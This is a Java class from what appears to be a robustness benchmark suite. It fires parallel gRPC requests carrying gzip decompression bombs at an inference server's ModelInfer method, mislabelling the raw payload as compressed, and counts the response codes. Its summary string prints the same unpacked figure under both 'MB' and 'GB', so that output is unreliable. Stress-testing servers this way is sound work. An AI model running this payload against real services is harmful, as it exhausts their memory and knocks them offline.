package io.nereid.benchmarks.torture.attack.grpc;

import io.grpc.CallOptions;
import io.grpc.Compressor;
import io.grpc.CompressorRegistry;
import io.grpc.ManagedChannel;
import io.grpc.MethodDescriptor.MethodType;
import io.grpc.StatusRuntimeException;
import io.grpc.netty.NettyChannelBuilder;
import io.grpc.stub.ClientCalls;
import io.nereid.benchmarks.torture.attack.Attack;
import io.nereid.benchmarks.torture.attack.Crowd;
import io.nereid.benchmarks.torture.attack.Outcome;
import io.nereid.benchmarks.torture.attack.Scene;
import io.nereid.benchmarks.torture.wire.GzipBomb;
import java.io.OutputStream;
import java.util.Collections;
import java.util.TreeMap;
import java.util.concurrent.Callable;
import java.util.concurrent.TimeUnit;

/**
 * Messages that unpack to a thousand times their size.
 *
 * @param unpackedBytes to what each message unpacks
 */
public record GzipMessages(String name, int messages, long unpackedBytes) implements Attack {
  private static final long TIMEOUT_SECONDS = 60;

  @Override
  public String summary() {
    return "%d gzip messages of %d MB that unpack to %d GB"
        .formatted(messages, unpackedBytes / 1_000_000_000, unpackedBytes / 1_000_000_000);
  }

  @Override
  public Outcome run(Scene scene) throws InterruptedException {
    byte[] message = GzipBomb.of(scene.scale().bytes(unpackedBytes));
    var packed = CompressorRegistry.newEmptyInstance();
    packed.register(new Packed());
    ManagedChannel channel =
        NettyChannelBuilder.forAddress(scene.target().grpc())
            .usePlaintext()
            .compressorRegistry(packed)
            .build();
    try {
      var answers = new TreeMap<String, Integer>();
      Callable<String> call = () -> answer(channel, message);
      for (String answer : Crowd.inParallel(Collections.nCopies(messages, call))) {
        answers.merge(answer, 1, Integer::sum);
      }
      return Outcome.of(answers.toString());
    } finally {
      channel.shutdownNow();
    }
  }

  private static String answer(ManagedChannel channel, byte[] message) {
    var options =
        CallOptions.DEFAULT
            .withCompression(Packed.NAME)
            .withDeadlineAfter(TIMEOUT_SECONDS, TimeUnit.SECONDS);
    try {
      var _ =
          ClientCalls.blockingUnaryCall(
              channel, ByteMarshaller.method("ModelInfer", MethodType.UNARY), options, message);
      return "OK";
    } catch (StatusRuntimeException e) {
      return e.getStatus().getCode().toString();
    }
  }

  /** Says that messages are packed by gzip, and leaves them as they are, since they are already. */
  private static final class Packed implements Compressor {
    static final String NAME = "gzip";

    @Override
    public String getMessageEncoding() {
      return NAME;
    }

    @Override
    public OutputStream compress(OutputStream target) {
      return target;
    }
  }
}
